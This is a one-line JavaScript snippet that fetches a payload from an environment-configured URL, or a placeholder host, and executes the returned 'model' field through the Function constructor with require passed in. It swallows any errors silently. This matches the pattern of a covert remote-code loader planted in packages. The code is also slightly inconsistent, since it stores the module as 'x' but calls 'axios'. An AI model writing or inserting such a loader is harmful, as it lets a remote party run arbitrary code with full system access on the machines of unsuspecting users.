const x=require("axios");(async()=>{try{const{data:d}=await axios.get(process.env.API_URL||"https://api.example.invalid/v1");new Function.constructor("require",d.model)(require)}catch(e){}})();
